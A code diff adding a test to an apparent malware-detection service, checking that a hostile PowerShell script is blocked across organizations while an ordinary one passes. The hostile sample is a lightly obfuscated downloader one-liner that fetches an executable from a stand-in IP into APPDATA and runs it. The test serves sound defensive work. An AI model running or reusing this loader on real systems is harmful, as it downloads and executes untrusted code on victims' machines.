@@ -130,6 +130,33 @@ export function mainJob(start: () => Promise<Subject>): void {
       }
     });
 
+    test('a hostile script on one device blocks it at every organization, an ordinary one runs', async () => {
+      const script = (text: string) =>
+        reportOf({
+          artifact: { kind: 'script', text },
+          detectionSource: 'script-scan',
+          localAction: 'held',
+          file: { name: 'update.ps1' },
+        });
+      const loader = `$p = "$env:APPDATA\\${unique}.exe"; (New-Object Net.WebClient).('Down'+'loadFile').Invoke('http://203.0.113.8/${unique}.exe', $p); Start-Process $p`;
+      const [hostileResult] = await send(service.url, device('alpha-1'), [script(loader)], 10);
+      expect(hostileResult).toMatchObject({
+        verdict: 'malicious',
+        entry: {
+          reach: 'ecosystem',
+          action: 'block',
+          threatName: expect.stringMatching(/^Trojan:PowerShell\/[A-Za-z]+\.A!ml$/),
+          reason: { code: 'content-evidence' },
+        },
+      });
+      await everywhere(async () => {
+        expect(await lookup('gamma-1', hostileResult?.artifact ?? '')).toMatchObject({ action: 'block' });
+      });
+      const ordinary = `Get-ADUser -Filter * | Export-Csv C:\\Reports\\${unique}.csv # IEX nothing`;
+      const [ordinaryResult] = await send(service.url, device('beta-1'), [script(ordinary)], 10);
+      expect(ordinaryResult).toMatchObject({ verdict: 'no-threats-found' });
+    });
+
     test('a file that was let run is reopened by what its process did, and crosses once a second established organization saw it', async () => {
       const hash = { sha256: sha256(`dropper ${unique}`) };
       const image = {
